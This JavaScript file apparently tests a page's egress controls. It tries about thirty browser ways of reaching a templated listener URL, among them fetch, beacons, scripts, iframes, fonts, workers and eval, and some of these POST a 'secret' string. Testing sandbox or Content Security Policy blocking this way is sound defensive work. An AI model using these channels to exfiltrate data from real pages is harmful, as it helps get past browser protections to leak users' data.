// Tries every way a page can ask something of the network. The listener hears the name of each way that works.
const listener = "http://{{listener}}/";
let tried = 0;

const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));

const ways = {
  fetch: (to) => fetch(to),
  "fetch-no-cors": (to) => fetch(to, { method: "POST", mode: "no-cors", body: "secret" }),
  xhr: (to) => { const request = new XMLHttpRequest(); request.open("POST", to); request.send("secret"); },
  websocket: (to) => new WebSocket(to.replace("http", "ws")),
  eventsource: (to) => new EventSource(to),
  beacon: (to) => navigator.sendBeacon(to, "secret"),
  image: (to) => { new Image().src = to; },
  script: (to) => add("script", { src: to }),
  "module-script": (to) => add("script", { type: "module", src: to }),
  import: (to) => import(to),
  stylesheet: (to) => add("link", { rel: "stylesheet", href: to }),
  preload: (to) => add("link", { rel: "preload", as: "image", href: to }),
  prefetch: (to) => add("link", { rel: "prefetch", href: to }),
  icon: (to) => document.head.append(Object.assign(document.createElement("link"), { rel: "icon", href: to })),
  manifest: (to) => add("link", { rel: "manifest", href: to }),
  iframe: (to) => add("iframe", { src: to }),
  object: (to) => add("object", { data: to }),
  embed: (to) => add("embed", { src: to }),
  video: (to) => add("video", { src: to, preload: "auto" }),
  audio: (to) => add("audio", { src: to, preload: "auto" }),
  background: (to) => { const part = document.createElement("p"); part.style.backgroundImage = `url(${to})`; part.textContent = "."; document.body.append(part); },
  "constructed-sheet": (to) => { const sheet = new CSSStyleSheet(); sheet.replaceSync(`body { border-image: url(${to}) 1; }`); document.adoptedStyleSheets = [sheet]; },
  font: (to) => new FontFace("probe", `url(${to})`).load(),
  svg: (to) => { const image = document.createElementNS("http://www.w3.org/2000/svg", "image"); image.setAttribute("href", to); const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg"); svg.append(image); document.body.append(svg); },
  worker: (to) => new Worker(to),
  "blob-worker": (to) => new Worker(URL.createObjectURL(new Blob([`fetch("${to}")`]))),
  eval: (to) => eval(`fetch("${to}")`),
  function: (to) => Function(`fetch("${to}")`)(),
};

for (const [name, way] of Object.entries(ways)) {
  tried += 1;
  try {
    Promise.resolve(way(listener + name)).catch(() => {});
  } catch {
    // Refused on the spot: the listener decides what counts.
  }
}

// A form takes the page away when it works, so the story sends it last.
add("form", { action: listener + "form", method: "post" });

setTimeout(() => add("p", { textContent: `tried ${tried} ways` }), 1500);
